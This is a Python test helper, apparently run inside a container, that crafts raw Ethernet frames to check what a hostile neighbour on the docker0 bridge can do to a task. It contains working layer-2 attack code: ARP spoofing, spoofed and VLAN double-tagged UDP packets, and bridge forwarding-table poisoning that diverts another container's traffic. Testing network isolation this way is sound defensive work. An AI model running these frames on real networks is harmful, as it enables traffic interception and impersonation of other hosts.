"""Crafted Ethernet frames, sent from inside a container with NET_RAW (Docker's default): what a
stranger on docker0 can do to a task. This file runs in the container (`python3 -c`, the
python-boto3 test image), so it imports nothing of ours.

  arp OP SENDER_MAC SENDER_IP TARGET_IP DST_MAC     ARP request (1) or reply (2), sent 15 times
  udp SRC_MAC SRC_IP DST_MAC DST_IP PORT TAGS       IPv4/UDP "spoofed" 15 times; TAGS "-" or
                                                    TPID:VID,... outermost first (88a8:0,8100:0)
  divert TASK_MAC SECONDS MARKER                    link-local frames from TASK_MAC (bridge FDB
                                                    poisoning), printing DIVERTED once a frame to
                                                    TASK_MAC carrying MARKER reaches this port
"""

import socket
import struct
import sys
import time

ETH_P_ALL, ETH_P_IP, ETH_P_ARP = 0x0003, 0x0800, 0x0806
LINK_LOCAL = "01:80:c2:00:00:0e"  # LLDP's group address: the bridge neither forwards nor filters it


def mac_bytes(mac: str) -> bytes:
    if mac == "own":
        with open("/sys/class/net/eth0/address") as own:
            mac = own.read().strip()
    return bytes.fromhex(mac.replace(":", ""))


def ethernet(dst: str, src: str, ethertype: int, payload: bytes, tags: str = "-") -> bytes:
    header = mac_bytes(dst) + mac_bytes(src)
    if tags != "-":
        for tag in tags.split(","):
            tpid, vid = tag.split(":")
            header += struct.pack("!HH", int(tpid, 16), int(vid))
    return header + struct.pack("!H", ethertype) + payload


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ipv4_udp(src: str, dst: str, port: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + udp


def arp(op: int, sender_mac: str, sender_ip: str, target_ip: str) -> bytes:
    return (struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op) + mac_bytes(sender_mac)
            + socket.inet_aton(sender_ip) + b"\0" * 6 + socket.inet_aton(target_ip))


def link() -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind(("eth0", 0))
    return sock


def send(frame: bytes, times: int = 15) -> None:
    with link() as sock:
        for _ in range(times):
            sock.send(frame)
            time.sleep(0.05)


def divert(task_mac: str, seconds: float, marker: bytes) -> None:
    poison = ethernet(LINK_LOCAL, task_mac, 0x88CC, b"\0" * 46)
    wanted = mac_bytes(task_mac)
    with link() as sock:
        sock.settimeout(0.05)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            sock.send(poison)
            try:
                frame = sock.recv(65535)
            except socket.timeout:
                continue
            if frame[:6] == wanted and marker in frame:
                print("DIVERTED", flush=True)
                return
    print("nothing diverted", flush=True)


def main(args: list[str]) -> None:
    kind = args[0]
    if kind == "arp":
        op, sender_mac, sender_ip, target_ip, dst = args[1:6]
        send(ethernet(dst, sender_mac, ETH_P_ARP, arp(int(op), sender_mac, sender_ip, target_ip)))
    elif kind == "udp":
        src_mac, src_ip, dst_mac, dst_ip, port, tags = args[1:7]
        payload = ipv4_udp(src_ip, dst_ip, int(port), b"spoofed")
        send(ethernet(dst_mac, src_mac, ETH_P_IP, payload, tags))
    elif kind == "divert":
        divert(args[1], float(args[2]), args[3].encode())
    else:
        raise SystemExit(f"unknown: {kind}")


if __name__ == "__main__":
    main(sys.argv[1:])
